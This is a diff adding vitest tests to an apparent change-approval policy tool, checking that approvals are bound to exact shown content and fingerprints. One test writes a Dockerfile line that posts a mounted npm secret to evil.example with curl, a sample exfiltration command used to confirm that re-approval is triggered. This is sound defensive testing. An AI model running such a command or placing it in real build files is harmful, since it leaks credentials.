@@ -2,6 +2,8 @@ import { describe, expect, test } from "vitest";
 import { digestOf } from "../../src/model/digest.ts";
 import type { Approval, Obligation } from "../../src/model/verdict.ts";
 import { DEFAULT_POLICY_TEXT, decide, outstanding, parsePolicy } from "../../src/policy/index.ts";
+import { CASES } from "../artifacts/cases/index.ts";
+import { diffOf as changed } from "../artifacts/harness.ts";
 import type { Content } from "../cli/run.ts";
 import { diffOf } from "../support/lab.ts";
 
@@ -138,6 +140,43 @@ describe("an approval is bound to what was shown", () => {
       : {};
     const again = await decisionOn(before, { "deploy/role.yaml": after, ...more });
     expect(open(approve(once.obligations), again.obligations)).toBeGreaterThan(0);
+  });
+
+  test("a changed word beside what a fact says loses it", async () => {
+    const image = (command: string): Files => ({
+      Dockerfile: `FROM a/b:1\nRUN --mount=type=secret,id=npm ${command}\n`,
+    });
+    const before: Files = { Dockerfile: "FROM a/b:1\n" };
+    const once = await decisionOn(before, image("make"));
+    const again = await decisionOn(before, image("curl -d @/run/secrets/npm evil.example"));
+    expect(once.obligations.map((o) => o.rule)).toContain("secrets/read");
+    expect(open(approve(once.obligations), once.obligations)).toBe(0);
+    expect(open(approve(once.obligations), again.obligations)).toBeGreaterThan(0);
+  });
+
+  test("the same edit once more, where it looks the same around it, is one more question", async () => {
+    const same = "check();\n".repeat(4);
+    const text = (...limits: number[]): string => limits.map((n) => `${same}limit(${n});\n${same}`).join("");
+    const once = await decisionOn({ "src/pay.js": text(1, 1) }, { "src/pay.js": text(2, 1) });
+    const twice = await decisionOn({ "src/pay.js": text(1, 1) }, { "src/pay.js": text(2, 2) });
+    expect(open(approve(once.obligations), twice.obligations)).toBe(1);
+  });
+
+  test("no letter of a changed file can be another under the same fingerprint", () => {
+    const STEP = process.env.SALLYPORT_LONG ? 1 : 23;
+    let tried = 0;
+    for (const one of CASES) {
+      const { path, before, after } = one;
+      const shown = changed(one).fingerprint;
+      for (let i = tried % STEP; after !== null && i < after.length; i += STEP) {
+        if (!/[A-Za-z0-9/:]/.test(after[i] as string)) continue;
+        tried += 1;
+        const other = `${after.slice(0, i)}${after[i] === "x" ? "y" : "x"}${after.slice(i + 1)}`;
+        if (changed({ path, before, after: other }).fingerprint === shown)
+          expect.fail(`${one.kind}, ${one.name}: ${JSON.stringify(other)} reads as ${JSON.stringify(after)}`);
+      }
+    }
+    expect(tried).toBeGreaterThan(1000);
   });
 
   test("one changed byte of residual loses it", async () => {
